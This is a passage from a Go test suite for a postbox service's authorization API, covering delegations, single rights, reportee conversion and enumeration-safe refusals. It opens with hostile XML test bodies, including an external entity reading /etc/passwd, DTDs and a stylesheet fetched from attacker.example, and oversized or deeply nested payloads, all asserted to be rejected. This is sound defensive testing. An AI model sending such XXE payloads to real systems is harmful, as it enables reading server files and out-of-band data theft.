		{"external entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><resource rel="RightHolder">` +
			`<SocialSecurityNumber>` + ssnP5 + `</SocialSecurityNumber><LastName>&xxe;</LastName>` + role + `</resource>`, http.StatusBadRequest, nil, false},
		{"external DTD", `<?xml version="1.0"?><!DOCTYPE resource SYSTEM "http://attacker.example/evil.dtd"><resource rel="RightHolder">` +
			authzPerson(ssnP5, "Brekke") + role + `</resource>`, http.StatusBadRequest, nil, false},
		{"parameter entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><resource rel="RightHolder">` +
			authzPerson(ssnP5, "Brekke") + role + `</resource>`, http.StatusBadRequest, nil, false},
		{"undeclared entity", `<resource rel="RightHolder"><SocialSecurityNumber>` + ssnP5 + `</SocialSecurityNumber><LastName>&xxe;</LastName>` + role + `</resource>`,
			http.StatusBadRequest, nil, false},
		{"processing instruction", `<?xml-stylesheet href="http://attacker.example/x.xsl"?>` + authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA),
			http.StatusBadRequest, nil, false},
		{"deep nesting", deep, http.StatusBadRequest, nil, false},
		{"deep nesting inside the delegation", `<resource rel="RightHolder">` + strings.Repeat(`<resource rel="Roles">`, 50) + strings.Repeat(`</resource>`, 51),
			http.StatusBadRequest, nil, false},
		{"10 MB body", huge, http.StatusRequestEntityTooLarge, nil, false},
		{"10 MB body without a length", huge, http.StatusRequestEntityTooLarge, nil, true},
		{"many small elements", `<resource rel="RightHolder">` + strings.Repeat("<Type/>", 3_000) + `</resource>`, http.StatusBadRequest, nil, false},
		{"huge text within the limit", `<resource rel="RightHolder"><LastName>` + strings.Repeat("A", 50_000) + `</LastName>` + role + `</resource>`,
			http.StatusBadRequest, nil, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			hdr := map[string]string{"ApiKey": keyAll, "Authorization": "Bearer " + personToken(t, ssnP1, "platform:enduser"), "Content-Type": "application/xml"}
			r := doWith(t, srv, request{method: http.MethodPost, path: "/api/" + orgO1 + "/authorization/delegations", header: hdr, body: tc.body},
				func(req *http.Request) {
					if tc.chunk {
						req.ContentLength = -1
					}
				})
			p := requireProblem(t, r, tc.status)
			kind := "invalid-xml"
			if tc.status == http.StatusRequestEntityTooLarge {
				kind = "body-too-large"
			}
			assert.Equal(t, "urn:postbox:problem:"+kind, p["type"])
			assert.NotContains(t, r.Body.String(), "root:", "nothing of a file is ever read")
		})
	}

	// The XML limit holds on its own, below a server body limit far above 10 MB.
	tokens, err := testTokens()
	require.NoError(t, err)
	roomy, err := api.New(api.Options{Pool: pool, Files: storetest.FilesOf(pool), MaxBodyBytes: 64 << 20, Logger: quiet, Tokens: tokens})
	require.NoError(t, err)
	for _, chunked := range []bool{false, true} {
		hdr := map[string]string{"ApiKey": keyAll, "Authorization": "Bearer " + personToken(t, ssnP1, "platform:enduser"), "Content-Type": "application/xml"}
		r := doWith(t, roomy, request{method: http.MethodPost, path: "/api/" + orgO1 + "/authorization/delegations", header: hdr, body: huge},
			func(req *http.Request) {
				if chunked {
					req.ContentLength = -1
				}
			})
		p := requireProblem(t, r, http.StatusRequestEntityTooLarge)
		assert.Contains(t, p["detail"], "65536")
	}
	assert.Equal(t, before, authzRolesSnapshot(t, pool), "hostile bodies change nothing")
}

func TestReporteeConversion(t *testing.T) {
	post := func(ssn, body, contentType string) response {
		return authzDo(t, shared, ssn, http.MethodPost, "/api/reportees/reporteeconversion", contentType, body)
	}
	r := post(ssnP1, `{"SocialSecurityNumber":"`+ssnP1+`","LastName":"fjellheim"}`, "application/json")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	body := r.json(t)
	assert.Regexp(t, `^r[0-9]+$`, body["ReporteeId"])
	assert.Equal(t, "Person", body["Type"])
	assert.Equal(t, "Ingrid Fjellheim", body["Name"])
	assert.Equal(t, "http://postbox.test/api/reportees/"+body["ReporteeId"].(string), link(t, body, "self"))
	// The ReporteeId works as {who}.
	assert.Equal(t, http.StatusOK, getAs(t, shared, ssnP1, "/api/"+body["ReporteeId"].(string)+"/messages").Code)

	r = authzDo(t, shared, ssnP1, http.MethodPost, "/api/reportees/reporteeconversion", "application/hal+json", `{"SocialSecurityNumber":"`+ssnP1+`","LastName":"Fjellheim"}`)
	require.Equal(t, http.StatusOK, r.Code)
	r = do(t, shared, request{method: http.MethodPost, path: "/api/reportees/reporteeconversion", header: map[string]string{"ApiKey": keyAll,
		"Authorization": "Bearer " + personToken(t, ssnP1, "platform:enduser"), "Content-Type": "application/json", "Accept": "application/xml"},
		body: `{"SocialSecurityNumber":"` + ssnP1 + `","LastName":"Fjellheim"}`})
	require.Equal(t, http.StatusOK, r.Code)
	requireWellFormedXML(t, r.Body.Bytes())
	assert.Contains(t, r.Body.String(), "<ReporteeId>r")

	wrong := requireProblem(t, post(ssnP1, `{"SocialSecurityNumber":"`+ssnP1+`","LastName":"Hansen"}`, "application/json"), http.StatusBadRequest)
	unknown := requireProblem(t, post(ssnP1, `{"SocialSecurityNumber":"11111111111","LastName":"Fjellheim"}`, "application/json"), http.StatusBadRequest)
	other := requireProblem(t, post(ssnP2, `{"SocialSecurityNumber":"`+ssnP1+`","LastName":"Fjellheim"}`, "application/json"), http.StatusBadRequest)
	assert.Equal(t, wrong, unknown, "wrong last name and unknown number are answered alike")
	assert.Equal(t, wrong["detail"], other["detail"], "a person one may not represent is answered like an unknown one")

	requireProblem(t, post(ssnP1, `{"SocialSecurityNumber":"123","LastName":"Fjellheim"}`, "application/json"), http.StatusBadRequest)
	requireProblem(t, post(ssnP1, `{"SocialSecurityNumber":"`+ssnP1+`"}`, "application/json"), http.StatusBadRequest)
	requireProblem(t, post(ssnP1, `{"SocialSecurityNumber":`, "application/json"), http.StatusBadRequest)
	requireProblem(t, post(ssnP1, `<x/>`, "application/xml"), http.StatusUnsupportedMediaType)
	r = authzDo(t, shared, ssnP1, http.MethodPost, "/api/reportees/reporteeconversion", "application/json",
		`{"SocialSecurityNumber":"`+ssnP1+`","LastName":"Fjellheim"}`, "platform:instances.read")
	requireProblem(t, r, http.StatusForbidden)
	r = authzDo(t, shared, ssnP1, http.MethodPost, "/api/reportees/reporteeconversion", "application/json",
		`{"SocialSecurityNumber":"`+ssnP1+`","LastName":"Fjellheim"}`, "platform:reportees")
	assert.Equal(t, http.StatusOK, r.Code)
}

// Enterprise users and organization tokens call the area too: an enterprise user sees the roles it holds
// for the parties it represents, and an organization token acts for its own organization.
func TestAuthorizationForEnterpriseUsersAndOrganizations(t *testing.T) {
	srv, _ := newServer(t)
	cert := loadCert(t, "enterprise.pem")
	withCert := func(r *http.Request) { r.TLS = &tls.ConnectionState{VerifiedChains: [][]*x509.Certificate{{cert}}} }
	r := doWith(t, srv, request{method: http.MethodPost, path: "/api/authentication/authenticatewithpassword?ForceEIAuthentication",
		header: map[string]string{"Content-Type": "application/json"}, body: `{"UserName":"NORDKYST_INTEGRASJON","UserPassword":"Demo-EU-Nordkyst!"}`}, withCert)
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	session := map[string]string{"ApiKey": keyAll, "Cookie": ".ASPXAUTH=" + r.Result().Cookies()[0].Value}

	r = doWith(t, srv, request{path: "/api/" + orgO5 + "/authorization/roles", header: session}, withCert)
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	roles := r.embedded(t, "roles")
	require.Len(t, roles, 1)
	assert.EqualValues(t, 50012, roles[0]["RoleId"])
	assert.EqualValues(t, 89, roles[0]["RoleDefinitionId"])
	// O1 is not among its parties.
	requireProblem(t, doWith(t, srv, request{path: "/api/" + orgO1 + "/authorization/roles", header: session}, withCert), http.StatusForbidden)
	// Not access manager for O3: no delegations listing.
	requireProblem(t, doWith(t, srv, request{path: "/api/" + orgO3 + "/authorization/delegations", header: session}, withCert), http.StatusForbidden)

	tok, err := minter(t).Mint(identity.TokenRequest{Org: orgO3, Scope: "platform:rolesandrights.read"})
	require.NoError(t, err)
	org := map[string]string{"ApiKey": keyAll, "Authorization": "Bearer " + tok}
	r = do(t, srv, request{path: "/api/my/authorization/rights", header: org})
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	assert.NotEmpty(t, r.embedded(t, "rights"), "an organization acting for itself holds every right")
	// The token's scope allows reading only.
	requireProblem(t, do(t, srv, request{method: http.MethodDelete, path: "/api/my/authorization/roles/50010", header: org}), http.StatusForbidden)
}

// A caller who is not access manager of the subject learns nothing from a role delete: existing and
// unknown roles, parties' and user names' alike, get the same 403. An access manager still learns that
// a role is not there.
func TestRoleDeleteRevealsNothing(t *testing.T) {
	srv, _ := newServer(t)
	refusals := []string{
		"/api/" + orgO1 + "/authorization/roles/50006",  // O1's REGNA, not P4's
		"/api/" + orgO1 + "/authorization/roles/987654", // no such role
		"/api/" + orgO1 + "/authorization/roles/abc",
		"/api/ingrid.fjellheim/authorization/roles/50002", // an existing user's role
		"/api/ingrid.fjellheim/authorization/roles/987654",
		"/api/no.such.user/authorization/roles/50002",
		"/api/" + euUserName + "/authorization/roles/50001",
	}
	for _, path := range refusals {
		t.Run(path, func(t *testing.T) {
			p := requireProblem(t, authzDo(t, srv, ssnP4, http.MethodDelete, path, "", ""), http.StatusForbidden)
			assert.Equal(t, "urn:postbox:problem:not-access-manager", p["type"])
		})
	}
	requireProblem(t, authzDo(t, srv, ssnP1, http.MethodDelete, "/api/"+orgO1+"/authorization/roles/987654", "", ""), http.StatusNotFound)
}

// The JSON HAL form of a delegation, as the integrators' collection sends it, is read into the same tree
// as the XML form and validated by the same code: each pair of bodies gets the same answer.
func TestDelegationJSONHAL(t *testing.T) {
	srv, pool := newServer(t)
	before := authzRolesSnapshot(t, pool)
	jsonOf := func(holder string, roles ...string) string {
		return `{"Type":"Placeholder",` + holder + `,"_embedded":{"Roles":[` + strings.Join(roles, ",") + `],"Rights":[]},"_links":{"self":{"href":"x"}}}`
	}
	p5 := `"SocialSecurityNumber":"` + ssnP5 + `","LastName":"Brekke"`
	cases := []struct {
		name      string
		xml, json string
		status    int
		kind      string
	}{
		{"unknown role definition", authzDelegation(authzPerson(ssnP5, "Brekke"), 987654), jsonOf(p5, `{"RoleDefinitionId":987654}`), http.StatusBadRequest, "bad-request"},
		{"no roles", authzDelegation(authzPerson(ssnP5, "Brekke")), jsonOf(p5), http.StatusBadRequest, "bad-request"},
		{"same role twice", authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA, roleREGNA), jsonOf(p5, `{"RoleDefinitionId":88}`, `{"RoleDefinitionId":"88"}`), http.StatusBadRequest, "bad-request"},
		{"role id not a number", strings.Replace(authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA), "88", "REGNA", 1), jsonOf(p5, `{"RoleDefinitionId":"REGNA"}`), http.StatusBadRequest, "bad-request"},
		{"role id a fraction", strings.Replace(authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA), "88", "88.5", 1), jsonOf(p5, `{"RoleDefinitionId":88.5}`), http.StatusBadRequest, "bad-request"},
		{"wrong last name", authzDelegation(authzPerson(ssnP5, "Hansen"), roleREGNA), jsonOf(`"SocialSecurityNumber":"`+ssnP5+`","LastName":"Hansen"`, `{"RoleDefinitionId":88}`), http.StatusBadRequest, "right-holder-mismatch"},
		{"unknown field", strings.Replace(authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA), "<Type>", "<Nickname>x</Nickname><Type>", 1), jsonOf(p5+`,"Nickname":"x"`, `{"RoleDefinitionId":88}`), http.StatusBadRequest, "bad-request"},
		{"a field twice", strings.Replace(authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA), "<Type>", "<LastName>Brekke</LastName><Type>", 1), jsonOf(p5+`,"LastName":"Brekke"`, `{"RoleDefinitionId":88}`), http.StatusBadRequest, "bad-request"},
		{"a right without its edition and action", withRights(authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA), `<ServiceCode>4711</ServiceCode>`),
			strings.Replace(jsonOf(p5, `{"RoleDefinitionId":88}`), `"Rights":[]`, `"Rights":[{"ServiceCode":"4711"}]`, 1), http.StatusBadRequest, "bad-request"},
		{"a right on an unknown service", withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("9999", 1, "Read")),
			jsonRights(p5, `{"ServiceCode":"9999","ServiceEditionCode":1,"Action":"Read"}`), http.StatusBadRequest, "bad-request"},
		{"a right with an unknown action", withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("4711", 2, "Approve")),
			jsonRights(p5, `{"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Approve"}`), http.StatusBadRequest, "bad-request"},
		{"a right on one message", withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), "<MessageID>64</MessageID>"+xmlRight("4711", 2, "Read")),
			jsonRights(p5, `{"MessageID":64,"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Read"}`), http.StatusBadRequest, "bad-request"},
		{"the same right twice", withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("4711", 2, "Read"), xmlRight("4711", 2, "read")),
			jsonRights(p5, `{"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Read"}`, `{"ServiceCode":"4711","ServiceEdition":2,"Action":"Read"}`),
			http.StatusBadRequest, "bad-request"},
		{"a right not held as delegatable", withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("4711", 2, "Read"), xmlRight("4711", 2, "Sign")),
			jsonRights(p5, `{"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Read"}`, `{"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Sign"}`),
			http.StatusForbidden, "rights-not-held"},
		{"a role not held", authzDelegation(authzPerson(ssnP5, "Brekke"), roleUTINN), jsonOf(p5, `{"RoleDefinitionId":87}`), http.StatusForbidden, "role-not-held"},
		{"NUL in a field", authzDelegation(authzPerson(ssnP5, "Bre&#0;kke"), roleREGNA), jsonOf(`"SocialSecurityNumber":"`+ssnP5+`","LastName":"Bre\u0000kke"`, `{"RoleDefinitionId":88}`), http.StatusBadRequest, ""},
		{"over-long field", authzDelegation(authzPerson(ssnP5, strings.Repeat("B", 300)), roleREGNA), jsonOf(`"SocialSecurityNumber":"`+ssnP5+`","LastName":"`+strings.Repeat("B", 300)+`"`, `{"RoleDefinitionId":88}`), http.StatusBadRequest, "bad-request"},
		{"too many roles", authzDelegation(authzPerson(ssnP5, "Brekke"), manyRoles(51)...), jsonOf(p5, manyJSONRoles(51)...), http.StatusBadRequest, "bad-request"},
		{"nested too deep", `<resource rel="RightHolder">` + strings.Repeat(`<resource rel="Roles">`, 50) + strings.Repeat(`</resource>`, 51),
			`{"_embedded":{"Roles":[` + strings.Repeat(`{"_embedded":{"Roles":[`, 50) + strings.Repeat(`]}}`, 50) + `]}}`, http.StatusBadRequest, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			x := requireProblem(t, authzDo(t, srv, ssnP3, http.MethodPost, "/api/"+orgO1+"/authorization/delegations", "application/xml", tc.xml), tc.status)
			j := requireProblem(t, authzDo(t, srv, ssnP3, http.MethodPost, "/api/"+orgO1+"/authorization/delegations", "application/hal+json", tc.json), tc.status)
			if tc.kind != "" {
				assert.Equal(t, "urn:postbox:problem:"+tc.kind, x["type"], x["detail"])
				assert.Equal(t, "urn:postbox:problem:"+tc.kind, j["type"], j["detail"])
			}
		})
	}
	for _, body := range []string{`[]`, `{"a":1} {"b":2}`, `{"SocialSecurityNumber":`, ``, `{"_embedded":{"Roles":[1]}}`} {
		requireProblem(t, authzDo(t, srv, ssnP3, http.MethodPost, "/api/"+orgO1+"/authorization/delegations", "application/hal+json", body), http.StatusBadRequest)
	}
	assert.Equal(t, before, authzRolesSnapshot(t, pool), "a refused delegation changes nothing")

	// Accepted as JSON, with the role id as a number, it is the delegation the XML form makes.
	r := authzDo(t, srv, ssnP3, http.MethodPost, "/api/"+orgO1+"/authorization/delegations", "application/hal+json",
		jsonOf(p5, `{"RoleDefinitionId":88,"RoleName":"Regnskapsmedarbeider","_links":{"self":{"href":"x"}}}`))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())
	p := requireProblem(t, authzDelegate(t, srv, ssnP3, orgO1, authzDelegation(authzPerson(ssnP5, "Brekke"), roleREGNA)), http.StatusConflict)
	assert.Equal(t, "urn:postbox:problem:role-already-held", p["type"])
	r = authzDo(t, srv, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/delegations?$filter="+url.QueryEscape("RightHolderName eq 'Eivind Brekke'"), "", "")
	require.Equal(t, http.StatusOK, r.Code, r.Body.String())
	list := r.embedded(t, "delegations")
	require.Len(t, list, 1)
	assert.Equal(t, float64(roleREGNA), list[0]["RoleDefinitionId"])
	assert.Equal(t, "Sigrid Haugland", list[0]["Delegator"])
}

// withRights puts rights (each the inside of a <resource rel="Right">) into the XML delegation body.
func withRights(body string, rights ...string) string {
	list := `<resource rel="Rights">`
	for _, r := range rights {
		list += `<resource rel="Right">` + r + `</resource>`
	}
	return strings.Replace(body, "<Type>", list+"</resource><Type>", 1)
}

func xmlRight(code string, edition int, action string) string {
	return fmt.Sprintf("<ServiceCode>%s</ServiceCode><ServiceEditionCode>%d</ServiceEditionCode><Action>%s</Action>", code, edition, action)
}

// jsonRights is the JSON HAL delegation of rights alone, as the integrators' collection sends it.
func jsonRights(holder string, rights ...string) string {
	return `{"Type":"Placeholder",` + holder + `,"_embedded":{"Roles":[],"Rights":[` + strings.Join(rights, ",") + `]}}`
}

// Single rights are delegated as Altinn 2 takes them (_embedded.Rights[] with service, edition and action,
// in JSON and XML), under the preconditions of a role: the receiver holds them at once, the views and the
// audit log show them, a right held already is 409, and the existing removal of a right takes one.
func TestSingleRightDelegation(t *testing.T) {
	srv, pool := newServer(t)
	p5 := selfReporteeID(t, ssnP5)
	holder := `"SocialSecurityNumber":"` + ssnP5 + `","LastName":"Brekke"`
	r := authzDo(t, srv, ssnP1, http.MethodPost, "/api/"+orgO1+"/authorization/delegations", "application/hal+json",
		jsonRights(holder, `{"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Read"}`, `{"ServiceCode":"4711","ServiceEditionCode":2,"Action":"Sign"}`))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())
	assert.Len(t, r.json(t)["RoleIds"], 2)
	// The access manager P3 holds Write on 4711/2 as a delegatable right (REGNA): it may give it alone.
	r = authzDelegate(t, srv, ssnP3, orgO1, withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("4711", 2, "Write")))
	require.Equal(t, http.StatusCreated, r.Code, r.Body.String())

	held := func() map[string]string {
		r := authzDo(t, srv, ssnP1, http.MethodGet, receiverURL(orgO1, "delegations", p5, "rights"), "", "")
		require.Equal(t, http.StatusOK, r.Code, r.Body.String())
		out := map[string]string{}
		for _, right := range r.embedded(t, "rights") {
			if right["ServiceCode"] == "4711" && right["ServiceEditionCode"] == float64(2) {
				out[right["Action"].(string)] = fmt.Sprint(int64(right["RightID"].(float64)))
			}
		}
		return out
	}
	rights := held()
	assert.ElementsMatch(t, []string{"Read", "Sign", "Write"}, keys(rights))
	own := authzDo(t, srv, ssnP5, http.MethodGet, "/api/"+orgO1+"/authorization/rights", "", "")
	require.Equal(t, http.StatusOK, own.Code, own.Body.String())
	assert.Contains(t, own.Body.String(), `"Sign"`, "the receiver holds the right it was given")
	e := auditActions(t, srv, orgO1)[0]
	assert.Equal(t, "DelegateRight", e["Action"])
	assert.Contains(t, e["Summary"], "right Write on 4711/2")

	before := authzRolesSnapshot(t, pool)
	p := requireProblem(t, authzDelegate(t, srv, ssnP1, orgO1, withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("4711", 2, "Sign"))),
		http.StatusConflict)
	assert.Equal(t, "urn:postbox:problem:role-already-held", p["type"])
	assert.Contains(t, p["detail"], "Sign on 4711/2")
	p = requireProblem(t, authzDelegate(t, srv, ssnP4, orgO1, withRights(authzDelegation(authzPerson(ssnP5, "Brekke")), xmlRight("4711", 2, "Delete"))),
		http.StatusForbidden)
	assert.Equal(t, "urn:postbox:problem:not-access-manager", p["type"])
	requireUnchanged(t, pool, before)

	// The right held alone is taken by the removal of a right; the others stay.
	d := authzDo(t, srv, ssnP1, http.MethodDelete, receiverURL(orgO1, "delegations", p5, "rights", rights["Sign"]), "", "")
	require.Equal(t, http.StatusNoContent, d.Code, d.Body.String())
	assert.ElementsMatch(t, []string{"Read", "Write"}, keys(held()))
	var definitions int
	require.NoError(t, pool.QueryRow(context.Background(), `SELECT count(*) FROM role_definitions WHERE role_type = 'SingleRight'`).Scan(&definitions))
	assert.Equal(t, 3, definitions, "one definition per right, whoever holds it")
	list := authzDo(t, srv, ssnP1, http.MethodGet, "/api/"+orgO1+"/authorization/roledefinitions", "", "")
	assert.NotContains(t, list.Body.String(), "SingleRight", "a single right's role is not a role definition to delegate")
}

func keys(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

func manyRoles(n int) []int {
	out := make([]int, n)
	for i := range out {
		out[i] = 1000 + i
	}
	return out
}

func manyJSONRoles(n int) []string {
	out := make([]string, n)
	for i, id := range manyRoles(n) {
		out[i] = fmt.Sprintf(`{"RoleDefinitionId":%d}`, id)
	}
	return out
}
